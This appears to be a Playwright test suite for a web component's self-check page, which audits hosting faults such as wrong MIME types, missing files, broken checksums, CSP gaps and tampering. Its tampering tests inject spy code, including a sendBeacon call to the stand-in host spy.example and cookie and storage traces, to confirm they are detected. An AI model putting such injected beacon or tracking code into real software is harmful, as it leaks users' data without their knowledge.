// The check page (kit/check) on hosts that go wrong in one way each: the right line says so, and says how to mend it.
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { serve } from '../../tools/serve.mjs';
import { violations } from '../browser/support/accessible.js';

const DIST = fileURLToPath(new URL('../../dist', import.meta.url));
const WHOLE_SITE = fileURLToPath(new URL('../../build/site', import.meta.url));
const STRICT = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; connect-src 'self'; img-src 'self'; base-uri 'none'; form-action 'none'";
const SECURE = 'http://127.0.0.1';
const INSECURE = 'http://guide.example'; // the browser is told that this is the same machine
const page = (head = '<meta charset="utf-8">', script = '/permit-guide/permit-guide.js') => `<!doctype html><html lang="fr"><head>${head}<title>x</title><script type="module" src="${script}"></script></head><body><permit-guide></permit-guide></body></html>`;

let browser;
let folder;
before(async () => {
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP guide.example 127.0.0.1'] });
  folder = mkdtempSync(join(tmpdir(), 'permit-guide-check-'));
  cpSync(DIST, join(folder, 'permit-guide'), { recursive: true, filter: (name) => !/standalone\.(?!fr)/.test(name) }); // as a webmaster may leave them out
});
after(async () => { await browser.close(); rmSync(folder, { recursive: true, force: true }); });

/** Opens the check page of a host and waits for its verdicts: `{id: state}`. */
async function verdicts({ csp = STRICT, change, pages, query = '', origin = SECURE, now, onRequest, keep, from = folder } = {}) {
  const site = await serve({ folder: from, csp, change, pages, onRequest });
  const context = await browser.newContext({ locale: 'fr-FR', viewport: { width: 320, height: 640 } });
  const tab = await context.newPage();
  try {
    if (now) await tab.clock.setFixedTime(new Date(now));
    await tab.goto(site.url.replace(SECURE, origin) + `permit-guide/check/check.html${query}`);
    await tab.waitForSelector('#check[data-state=done]', { timeout: 120000 });
    const lines = await tab.$$eval('[data-check]', (all) => Object.fromEntries(all.map((one) => [one.dataset.check, { state: one.dataset.state, text: one.textContent.replace(/\s+/g, ' '), mend: one.querySelector('.mend')?.textContent ?? null }])));
    await keep?.(tab, lines);
    return lines;
  } finally {
    await context.close();
    await site.close();
  }
}

const bad = (lines) => Object.entries(lines).filter(([, { state }]) => state === 'fail' || state === 'warn').map(([id, { state }]) => `${id}: ${state}`).sort();
const only = (ending, edit) => (pathname, reply) => { if (pathname.endsWith(ending)) edit(reply); };
const typed = (type) => (reply) => { reply.headers['Content-Type'] = type; delete reply.headers['X-Content-Type-Options']; };
/** The bytes of a file, changed: sent as they are. */
const edited = (reply, edit) => { reply.body = edit(readFileSync(reply.path.replace(/\.(br|gz)$/, ''))); };

describe('a host that does everything right', () => {
  let lines;
  let seen;
  const asked = [];
  before(async () => {
    lines = await verdicts({
      from: WHOLE_SITE, query: '?page=/fr.html', pages: { '/fr.html': page() }, onRequest: (url) => asked.push(url), now: '2026-11-27T10:00:00Z',
      keep: async (tab) => {
        seen = { violations: await violations(tab, 'body'), text: await tab.inputValue('#text'), lang: await tab.getAttribute('html', 'lang'), wide: await tab.evaluate(() => document.documentElement.scrollWidth), title: await tab.title() };
        await tab.context().grantPermissions(['clipboard-read', 'clipboard-write']);
        await tab.click('section button:has-text("Copier")');
        await tab.waitForFunction(() => document.body.textContent.includes('Copié.'));
        seen.clipboard = await tab.evaluate(() => navigator.clipboard.readText());
      },
    });
  });
  test('nothing is bad, under the strict policy; every line was looked at', () => {
    assert.deepEqual(bad(lines), []);
    assert.deepEqual(Object.entries(lines).filter(([, { state }]) => state !== 'pass').map(([id]) => id), []);
    assert.ok(Object.keys(lines).length >= 23);
  });
  test('it says the versions, and the days of the law', () => {
    assert.match(lines.version.text, /0\.1\.0, règles de droit 2026\.\d+\.\d+/);
    assert.match(lines.age.text, /23 novembre 2026.*28 février 2027/);
  });
  test('the worst comes first: what is not OK need not be looked for', async () => {
    const states = Object.values(await verdicts({ now: '2027-02-20T10:00:00Z', change: only('.css', (reply) => { reply.headers['Content-Type'] = 'text/plain'; }) })).map(({ state }) => state);
    assert.deepEqual([...new Set(states)], ['fail', 'warn', 'pass', 'skip']);
    assert.equal(states.lastIndexOf('fail') + 1, states.indexOf('warn'));
  });
  test('it asks its own site only, and every file of the release', () => {
    const names = Object.keys(JSON.parse(readFileSync(join(WHOLE_SITE, 'permit-guide/release.json'), 'utf8')).files);
    assert.deepEqual(names.filter((name) => !asked.includes(`/permit-guide/${name}`)), []);
  });
  test('axe-core finds nothing; nothing sticks out at 320 px', () => {
    assert.deepEqual(seen.violations, []);
    assert.ok(seen.wide <= 320, String(seen.wide));
  });
  test('the report is copied as text, every line in it', () => {
    assert.equal(seen.clipboard, seen.text);
    assert.equal(seen.text.split('\n').filter((line) => /^\[/.test(line)).length, Object.keys(lines).length);
    assert.equal(seen.lang, 'fr');
  });
});

/** One fault each: what is bad then, and nothing else. */
const FAULTS = {
  'scripts with a wrong type': [{ change: only('.js', typed('text/plain')) }, ['starts: fail', 'type-js: fail']],
  'styles with a wrong type': [{ change: only('.css', (reply) => { reply.headers['Content-Type'] = 'text/plain'; }) }, ['starts: fail', 'type-css: fail']],
  'the engine with a wrong type': [{ change: only('.wasm', typed('application/octet-stream')) }, ['type-wasm: warn']],
  'words with a wrong type': [{ change: only('.json', typed('text/plain')) }, ['type-json: warn']],
  'the law with a wrong type': [{ change: only('.pack', typed('text/plain')) }, ['type-pack: warn']],
  'no compression': [{ change: (pathname, reply) => reply.path?.match(/\.(br|gz)$/) && edited(reply, (bytes) => bytes) }, ['compression: fail']],
  'one file changed': [{ change: only('texts/en.more.json', (reply) => edited(reply, (bytes) => Buffer.concat([bytes, Buffer.from(' ')]))) }, ['compression: fail', 'intact: fail']],
  'a file missing': [{ change: only('texts/ar.more.json', (reply) => { reply.status = 404; reply.body = 'no'; }) }, ['missing: fail']],
  'a page of the host instead of a file': [{ change: only('texts/ar.json', (reply) => { reply.headers['Content-Type'] = 'text/html'; reply.body = '<!doctype html>'; }) }, ['missing: fail', 'type-json: warn']],
  'files that may be left out missing': [{}, []],
  'files kept for a year': [{ change: only('.json', (reply) => { reply.headers['Cache-Control'] = 'public, max-age=31536000, immutable'; }) }, ['caching: warn']],
  'a law past its review day': [{ now: '2027-03-01T10:00:00Z' }, ['age: fail']],
  'a law soon to be reviewed': [{ now: '2027-02-20T10:00:00Z' }, ['age: warn']],
  'no list of files': [{ change: only('release.json', (reply) => { reply.status = 404; reply.body = 'no'; }) }, ['version: fail']],
};

describe('a host with one fault', () => {
  for (const [fault, [options, expected]] of Object.entries(FAULTS)) {
    test(fault, async () => {
      const lines = await verdicts({ now: '2026-11-27T10:00:00Z', ...options });
      assert.deepEqual(bad(lines), expected);
      for (const { state, mend } of Object.values(lines)) assert.ok(state === 'pass' || state === 'skip' || mend?.length > 10, 'each says how to mend it');
    });
  }

  test('WebAssembly forbidden by the policy', async () => {
    const lines = await verdicts({ csp: STRICT.replace(" 'wasm-unsafe-eval'", '') });
    assert.equal(lines.wasm.state, 'fail');
    assert.match(lines.wasm.mend, /'wasm-unsafe-eval'/);
  });

  test('a policy that forbids a script which the host adds: it is named', async () => {
    const hostile = only('check/check.html', (reply) => edited(reply, (bytes) => String(bytes).replace('</main>', '</main><script src="https://statistics.example/s.js"></script>')));
    const lines = await verdicts({ change: hostile });
    assert.equal(lines.policy.state, 'fail');
    assert.match(lines.policy.text, /script-src-elem https:\/\/statistics\.example/);
  });

  test('half updated: the law of another release beside the rest', async () => {
    const older = (pathname, reply) => /names|rulebook\.pack|more\.js$/.test(pathname) && edited(reply, (bytes) => (pathname.endsWith('names.json') ? String(bytes).replace(/"version":"[^"]+"/, '"version":"2020.1.1"') : Buffer.concat([bytes, Buffer.from(' ')])));
    const lines = await verdicts({ change: older });
    assert.equal(lines.whole.state, 'fail');
    assert.equal(lines.intact.state, 'fail');
  });

  test('lists of two releases', async () => {
    const lines = await verdicts({ change: only('SHA256SUMS', (reply) => edited(reply, (bytes) => String(bytes).split('\n').slice(3).join('\n'))) });
    assert.equal(lines.whole.state, 'fail');
    assert.equal(lines.intact.state, 'pass');
  });

  test('a page that is not https: it says so, and that checksums need it', async () => {
    const lines = await verdicts({ origin: INSECURE });
    assert.deepEqual([lines.secure.state, lines.intact.state, lines.whole.state, lines.starts.state], ['warn', 'skip', 'skip', 'pass']);
  });
});

describe('a guide that was tampered with', () => {
  const withSpy = (code) => only('/permit-guide.js', (reply) => edited(reply, (bytes) => `${bytes}\naddEventListener('click', () => { ${code} }, true);`));
  test('a request after an answer is caught, and named', async () => {
    const lines = await verdicts({ change: withSpy("fetch('/spied?answer=1').catch(() => {});") });
    assert.deepEqual([lines.requests.state, lines.storage.state, lines.intact.state], ['fail', 'pass', 'fail']);
    assert.match(lines.requests.text, /spied/);
  });
  for (const [kind, code] of Object.entries({ localStorage: "localStorage.setItem('spied', 1)", sessionStorage: "sessionStorage.setItem('spied', 1)", cookie: "document.cookie = 'spied=1'", indexedDB: "indexedDB.open('spied')", caches: "caches.open('spied')" })) {
    test(`a trace is caught, and named: ${kind}`, async () => {
      const lines = await verdicts({ change: withSpy(code) });
      assert.equal(lines.storage.state, 'fail');
      assert.match(lines.storage.text, new RegExp(`${kind}: spied`));
    });
  }
  test('what the policy forbids is heard', async () => {
    const lines = await verdicts({ change: withSpy("navigator.sendBeacon('https://spy.example/', 'x')") });
    assert.equal(lines.policy.state, 'fail');
    assert.match(lines.policy.text, /connect-src https:\/\/spy\.example/);
  });
});

describe('the page of the webmaster', () => {
  const looked = (html, options = {}) => verdicts({ query: '?page=/p.html', pages: { '/p.html': html }, ...options });
  const pageLines = (lines) => bad(lines).filter((line) => line.startsWith('page'));

  test('in another encoding', async () => {
    const lines = await looked(page('<meta charset="iso-8859-1">'), { change: only('/p.html', typed('text/html')) });
    assert.deepEqual(pageLines(lines), ['page-charset: warn']);
  });
  test('in another encoding, with the single script', async () => {
    const lines = await looked(page('<meta charset="iso-8859-1">', '/permit-guide/permit-guide.standalone.fr.js'), { change: only('/p.html', typed('text/html')) });
    assert.deepEqual(pageLines(lines), ['page-charset: fail']);
  });
  test('with a base', async () => {
    const lines = await looked(page('<meta charset="utf-8"><base href="/permit-guide/">', 'permit-guide.js'));
    assert.deepEqual(pageLines(lines), ['page-base: warn']);
    assert.equal(lines.starts.state, 'pass');
  });
  test('with a policy that leaves something out, in its head or in a header', async () => {
    const lines = await looked(page(`<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'self'">`));
    assert.deepEqual(pageLines(lines), ['page-policy: fail']);
    assert.match(lines['page-policy'].text, /script-src 'wasm-unsafe-eval'/);
    const other = await looked(page(), { change: only('/p.html', (reply) => { reply.headers['Content-Security-Policy'] = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'"; }) });
    assert.match(other['page-policy'].text, /Manque : style-src 'self'; connect-src 'self'/);
  });
  test('without any policy', async () => {
    const lines = await looked(page(), { csp: undefined, change: only('/p.html', () => {}) });
    assert.deepEqual(pageLines(lines), []);
    const none = await looked(page(), { change: only('/p.html', (reply) => { delete reply.headers['Content-Security-Policy']; }) });
    assert.deepEqual(pageLines(none), ['page-policy: warn']);
  });
  test('without the guide, or not there', async () => {
    assert.deepEqual(pageLines(await looked('<!doctype html><title>x</title>')), ['page: fail']);
    assert.deepEqual(pageLines(await verdicts({ query: '?page=/nowhere.html' })), ['page: fail']);
  });
  test('that takes the guide from another site, which forbids or allows it', async () => {
    const csp = (origin) => STRICT.replaceAll("'self'", `'self' ${origin}`);
    for (const [allows, state] of [[false, 'fail'], [true, 'warn']]) {
      const other = await serve({ folder, change: (pathname, reply) => { if (allows) reply.headers['Access-Control-Allow-Origin'] = '*'; } });
      const lines = await looked(page('<meta charset="utf-8">', `${other.url}permit-guide/permit-guide.js`), { csp: csp(other.url.slice(0, -1)) });
      assert.equal(lines['page-origin'].state, state);
      await other.close();
    }
  });
});

test('in English when asked', async () => {
  await verdicts({ query: '?lang=en', keep: async (tab, lines) => {
    assert.equal(await tab.getAttribute('html', 'lang'), 'en');
    assert.match(lines.whole.text, /All files belong to the same release/);
  } });
});

test('where its own script does not run, the page says why', async () => {
  const site = await serve({ folder, csp: STRICT, change: only('check.js', (reply) => { reply.headers['Content-Type'] = 'text/plain'; }) });
  const tab = await browser.newPage();
  await tab.goto(`${site.url}permit-guide/check/check.html`);
  assert.match(await tab.textContent('main'), /text\/javascript.*the script of this check could not run/s);
  await tab.close();
  await site.close();
});

test('both languages say the same things, with the same figures', () => {
  const [fr, en] = ['fr', 'en'].map((language) => JSON.parse(readFileSync(new URL(`../../kit/check/words/${language}.json`, import.meta.url), 'utf8')));
  const shape = (value) => (typeof value === 'string' ? [...value.matchAll(/\{\w+\}/g)].map(String).sort() : Array.isArray(value) ? value.map(shape) : Object.fromEntries(Object.entries(value).map(([key, one]) => [key, shape(one)])));
  assert.deepEqual(shape(fr), shape(en));
  const speechless = Object.entries(en.lines).flatMap(([id, line]) => Object.entries(line).filter(([code, said]) => /^(fail|warn)/.test(code) && said.length !== 2).map(([code]) => `${id}.${code}`));
  assert.deepEqual(speechless, []);
});
